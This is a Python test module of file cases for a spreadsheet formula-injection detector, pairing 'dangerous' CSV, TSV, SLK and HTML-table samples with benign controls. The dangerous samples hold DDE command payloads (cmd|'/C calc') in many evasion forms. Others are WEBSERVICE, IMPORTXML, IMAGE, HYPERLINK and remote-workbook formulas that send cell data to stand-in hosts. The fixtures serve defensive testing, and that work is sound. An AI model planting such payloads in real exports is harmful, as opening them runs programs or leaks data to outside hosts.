"""Tables in text whose formulas run programs or call out, and honest ones."""

from typing import Final

from tests.corpus.files.case import FileCase

_EXCEL: Final = "=cmd|'/C calc'!A0"


def _case(name: str, text: str | bytes, *reasons: str) -> FileCase:
    data = text.encode() if isinstance(text, str) else text
    return FileCase(name, lambda: data, frozenset(f"formula_{reason}" for reason in reasons))


def _page(*cells: str) -> str:
    return f"<table><tr>{''.join(f'<td>{cell}</td>' for cell in cells)}</tr></table>"


_CALLS_ELSEWHERE: Final = (
    "WEBDIENST", "ServiceWeb", "SERVICIOWEB", "SERVIZIO.WEB", "serviçoweb", "WEBBTJÄNST", "VERKKOPALVELU",
    "WEBSZOLGÁLTATÁS", "WEBHİZMETİ", "\u0432\u0435\u0431\u0441\u043b\u0443\u0436\u0431\u0430", "XMLFILTERN",
    "BILD",
)  # fmt: skip
_LINKS_ELSEWHERE: Final = (
    "LIEN_HYPERTEXTE", "HIPERVINCULO", "COLLEG.IPERTESTUALE", "HIPERLIGAÇÃO", "HIPERŁĄCZE",
    "KÖPRÜ", "\u0413\u0418\u041f\u0415\u0420\u0421\u0421\u042b\u041b\u041a\u0410",
)  # fmt: skip
_LISTS: Final = (
    "-Image (PNG, JPEG) attached", "- Image(s) attached", "-> image (left)", "- call (customer) back", "- Hyperlink(s)",
    "@support please call (now)", "+Run (5 km)", "=> Run (2)", "- shell (bash)", "- Register (new users)", "- Bild(er)",
    "- DDE (Digitale Datenerfassung)", "- exec (summary)", "- hyperlink (see below)", "-Foto (Bild(er))",
    "= Bild(er) gesamt", "= ... (Imagen(es))", "- Image (screenshot_2024.png)", "- call (don't)", "- fix run()",
)  # fmt: skip
"""Prose with brackets, as task lists are exported."""
_DANGEROUS: Final = (
    _case("program.csv", f"a,b\n1,{_EXCEL}\n", "program"),
    _case("program-quoted.csv", f'a,b\n1,"{_EXCEL}"\n', "program"),
    _case("program-plus.csv", "a,b\n+cmd|'/C calc'!A0,2\n", "program"),
    _case("program-minus.csv", "a,b\n-2+3+cmd|'/C calc'!D2,2\n", "program"),
    _case("program-at.csv", "a,b\n@SUM(1+1)*cmd|'/C calc'!A0,2\n", "program"),
    _case("program-behind-tab.csv", f'a,b\n"\t{_EXCEL}",2\n', "program"),
    _case("program-behind-return.csv", f'a,b\n"\r{_EXCEL}",2\n', "program"),
    _case("program-semicolons.csv", f"a;b\n1;{_EXCEL}\n", "program"),
    _case("program.tsv", f"a\tb\n1\t{_EXCEL}\n", "program"),
    _case("program-utf-16.csv", f"a,b\n1,{_EXCEL}\n".encode("utf-16"), "program"),
    _case("program-full-width.csv", "a,b\n1,\uff1dcmd|'/C calc'!A0\n", "program"),
    _case("program-behind-a-mark.csv", f"\ufeff{_EXCEL},b\n", "program"),
    _case("program-by-path.csv", "a,b\n=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!'',2\n", "program"),
    _case("program-without-quotes.csv", "a,b\n=cmd|calc!A1,2\n", "program"),
    _case("program-behind-an-open-quote.csv", f'a,b\n"x,1\n{_EXCEL},2\n', "program"),
    _case("program-with-a-text-before.csv", 'a,b\n"=""x""&cmd|\'/c calc\'!A0",2\n', "program"),
    _case("program-behind-a-separator-of-its-own.csv", "sep=^\na^=cmd|'/c calc'!A0\n", "program"),
    _case("program-behind-a-quoted-separator.csv", "\ufeff\"SEP=x\"\r\nax=cmd|'/c calc'!A0\r\n", "program"),
    _case("link-behind-a-bracket.csv", 'sep=]\na]=HYPERLINK("http://a.example")\n'.encode("utf-16"), "link"),
    *(
        _case(f"program-in-unmarked-{encoding}.csv", f"a;b\n{_EXCEL};1\n".encode(encoding), "program")
        for encoding in ("utf-16-le", "utf-16-be")
    ),
    _case("program-behind-wide-letters.csv", "a;b\n".encode("utf-16-le") * 1000 + f"\n{_EXCEL}\n".encode(), "program"),
    _case("dde.csv", 'a,b\n1,"=DDE(""cmd"",""/C calc"",""x"")"\n', "program"),
    _case("dde-semicolons.csv", '=DDE("cmd";"/C calc";"x")\n', "program"),
    _case("webservice.csv", 'a,b\n1,"=WEBSERVICE(""http://a.example/""&A1)"\n', "call"),
    _case("importxml.csv", '=IMPORTXML(CONCAT("http://a.example/",A1),"//a"),1\n', "call"),
    _case("importdata-in-small.csv", 'a,b\n1,=importdata("http://a.example")\n', "call"),
    _case("image.csv", 'a;b\n1;=IF(1,IMAGE("http://a.example/a.png"),2)\n', "call"),
    _case("program-in-a-page.xls", _page("1", _EXCEL), "program"),
    _case("program-in-a-page-in-utf-16.xls", _page(_EXCEL).encode("utf-16"), "program"),
    _case("program-in-a-page-in-unmarked-utf-16.xls", _page(_EXCEL).encode("utf-16-le"), "program"),
    _case("program-among-tags.xls", "\n" + _page("&#61;<b>cmd</b>\n|'/C calc'!A0"), "program"),
    _case("call-in-a-page.xls", _page('=IF(1,<!-- > -->WEB<i></i>SERVICE("http://a.example/"))'), "call"),
    _case("link-in-a-page.xls", _page("<!-- ", '=HYPERLINK("http://a.example/?"&amp;A1)'), "link"),
    _case("program-in-an-attribute.xls", f'<html><td x:fmla="{_EXCEL}">1</td></html>', "program"),
    *(_case(f"{name}.csv", f'a;b\n1;={name}("http://a.example/"&A1)\n', "call") for name in _CALLS_ELSEWHERE),
    *(_case(f"{name}.csv", f'a;b\n1;={name}("http://a.example/"&A1)\n', "link") for name in _LINKS_ELSEWHERE),
    _case("call-in-latin.csv", '=ServiçoWeb("http://a.example")\n'.encode("cp1252"), "call"),
    _case("call-in-cyrillic.csv", f'a\n={_CALLS_ELSEWHERE[9]}("http://a.example")\n'.encode("cp1251"), "call"),
    _case("link-in-polish.csv", '=Hiperłącze("http://a.example")\n'.encode("cp1250"), "link"),
    _case("program-between-quotes-of-a-page.xls", _page('"x', _EXCEL, 'x"'), "program"),
    _case("program-among-code-pages.csv", f"a;Größe;b\n1;{_EXCEL}\n".encode("cp1252"), "program"),
    _case("program-behind-a-foreign-separator.csv", f"sep=ä\naä{_EXCEL}\n", "program"),
    _case("program-behind-a-wide-blank.csv", f"a;\u3000{_EXCEL}\n", "program"),
    _case("program-of-a-cell.csv", "a;b\n1;=CALL(A1)\n", "program"),
    _case("program-of-columns.csv", "a;b\n1;=EXEC(A:A)\n", "program"),
    _case("program-that-is-put-together.csv", "a;b\n1;=EXEC(CHAR(99))\n", "program"),
    _case("program-by-name.slk", "ID;P\nNN;Nx;Ecalc\nC;Y1;X1;EEXEC(x)\nE\n", "program"),
    _case("call-by-name.xls", "<html><x:ExcelName><x:Name>u</x:Name></x:ExcelName><td>=WEBSERVICE(u)", "call"),
    _case("call-of-a-cell.csv", "a;b\n1;=IMAGE( $A$1)\n", "call"),
    _case("call-of-cells-by-number.csv", "a;b\n1;=IMAGE(RC[-1])\n", "call"),
    _case("link-of-a-label.csv", "a;b\n1;=HYPERLINK('a')\n", "link"),
    _case("workbook-elsewhere.csv", "a,b\n1,='http://h.example/[a.xlsx]S'!A1\n", "call"),
    _case("workbook-on-a-share.csv", "a;b\n1;\"=1+'\\\\10.0.0.1\\s\\[a.xlsx]S'!A1\"\n", "call"),
    _case("workbook-of-a-host.csv", "='file://h.example/s/a.ods'#$S.A1\n", "call"),
    _case("name-on-a-share.xls", _page("='\\\\10.0.0.1\\s\\a.xlsx'!name"), "call"),
    _case("import.csv", 'a\n"=IMPORTCSV(""http://h.example/"")"\n', "call"),
    _case("import-of-text.csv", 'a\n"=IMPORTTEXT(""http://h.example/"")"\n', "call"),
    _case("link.csv", 'a,b\n1,"=HYPERLINK(""http://a.example/?""&A1,""Click"")"\n', "link"),
    _case("link-plus.csv", 'a,b\n1,"+HYPERLINK(""http://a.example"")"\n', "link"),
)
_HONEST: Final = (
    _case("signs.csv", "a,b,c\n-1,+49 30 123,-1.5e3\n+1,-,--\n"),
    _case("sums.csv", 'a,b\n=A1+B1,"=SUM(A1,B1)"\n@handle,@other\n'),
    _case("sums.tsv", "a\tb\n=A1+B1\t=IF(A1>2,1,0)\n"),
    _case("talk.csv", 'id,text\n1,"use =cmd|\'/C calc\'!A0 or =HYPERLINK(""x"")"\n2,HYPERLINK(x)\n'),
    _case("talk-behind-a-number.csv", '-1,"see HYPERLINK(x) and WEBSERVICE(y)"\n'),
    _case("escaped.csv", f"a,b\n1,'{_EXCEL}\n2,\"'{_EXCEL}\"\n"),
    _case("text-in-a-formula.csv", 'a,b\n"=IF(A1=1,""HYPERLINK(x)"",""cmd|y!z"")",2\n'),
    _case("pipes.csv", "a|b|c\n-1|foo|bar!\n@john|hi there!|x\n"),
    _case("semicolons.csv", "a;b\n-1,5;+2,5\n"),
    _case("markup.csv", 'a,b\n1,"- one\n- two | three!\n- four"\n'),
    _case("empty-cells.csv", ',,,\n"","",""\n'),
    _case("utf-16.csv", "a,b\n-1,ü\n".encode("utf-16")),
    _case("unmarked-utf-16.csv", "a;b\n-1;ü\n".encode("utf-16-le")),
    _case("unmarked-big-endian.csv", "a;b\n-1;5 €\n".encode("utf-16-be")),
    _case("separator-told.csv", 'sep=;\na;b\n-1;"=SUM(A1;B1)"\nsep=^;a^=cmd|x\n'),
    _case("separator-of-its-own.csv", "sep=^\na^b|c\n-1^=SUM(A1,B1)\n"),
    _case("report.xls", "<style>@page {margin: 1in}</style>" + _page("-1", "=A1+B1", '<a href="https://b.c">=</a>')),
    _case("talk-of-pages.csv", f"a,b\n1,{_page('HYPERLINK(x)')}\n"),
    _case("words.csv", "a;b\n- Bild (links);- ein Bild (rechts)\n- Kép (1);- Länk (x);=SUMME(A1:A2)\n"),
    _case("words-in-latin.csv", "a;b\n- Größe (cm);=SUMME(A1:A2)\n".encode("cp1252")),
    _case("lists.csv", "".join(f"{at};{line}\n" for at, line in enumerate(_LISTS))),
    _case("lists-with-commas.csv", "".join(f'{at},"{line}"\n' for at, line in enumerate(_LISTS))),
    _case("lists.xls", _page(*_LISTS)),
    _case(
        "other-sheets.csv", "='Jan:Dec'!A1,=SUM('My sheet'!A1:B9)\n='C:\\a\\[b.xlsx]S'!A1,='file:///a/b.ods'#$S.A1\n"
    ),
    _case("talk-in-quotes.csv", "a,b\n- see 'http://h.example/'! or 'x'!,-don't 'do' it!\n"),
    _case("open-quote.csv", 'size,name\n5",desk\n-1,"x\n'),
)
CASES: Final[tuple[FileCase, ...]] = _DANGEROUS + _HONEST
